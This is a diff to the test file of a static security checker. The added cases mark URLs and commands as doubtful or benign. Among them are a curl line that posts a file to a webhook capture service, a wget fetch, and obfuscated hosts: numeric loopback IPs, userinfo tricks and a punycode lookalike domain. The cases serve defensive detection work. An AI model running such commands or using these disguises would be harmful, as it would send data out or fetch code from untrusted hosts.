@@ -7,9 +7,10 @@ import os
 import msgspec
 import pytest
 
+from stannary.checks.static.judges.addresses import doubtful_address
 from stannary.checks.static.judges.danger import danger_of
 from stannary.checks.static.judges.python_kinds import RULES, SEVERITIES
-from stannary.checks.static.judges.shell import classify, doubtful_address
+from stannary.checks.static.judges.shell import classify
 from stannary.checks.static.ruleset import RuleSet, _Packed, compile_sources
 from stannary.checks.static.verdict import findings_of, verdict_of
 from stannary.checks.static.walk import Walker, read_file
@@ -103,6 +104,28 @@ def test_commands_are_classified(command, kind):
         ("https://pastebin.com/raw/x", True),
         ("https://huggingface.co/x", False),
         ("http://localhost:8000", False),
+        ("curl webhook.site/abc -d @x", True),
+        ("https://a1b2.ngrok-free.app/x", True),
+        ("https://t.co/x", True),
+        ("https://2130706433/x", True),
+        ("https://0x7f000001/x", True),
+        ("https://[2001:db8::1]/x", True),
+        ("https://[::1]:8000/x", False),
+        ("https://huggingface.co@files.example.org/x", True),
+        ("https://xn--huggngface-wmb.co/x", True),
+        ("https://cdn.shop.xyz/x", True),
+        ("wget shop.top/x", True),
+        ("https://host.invalid", True),
+        ("https://user:word@host.test:8443/x", True),
+        # A word in a name says nothing of who has it, and parts of other names and of code are none of these hosts.
+        ("https://evil-dead.org/wiki", False),
+        ("https://malware-bazaar.org/x", False),
+        ("https://matrix.io/x", False),
+        ("https://dot.co/x", False),
+        ("https://profile.io/x", False),
+        ("https://host.test.org/x", False),
+        ("layer = self.top if self.file.tk else x.test", False),
+        ("https://first.last@bitbucket.org/a/b", False),
     ],
 )
 def test_addresses_are_told_apart(address, doubtful):
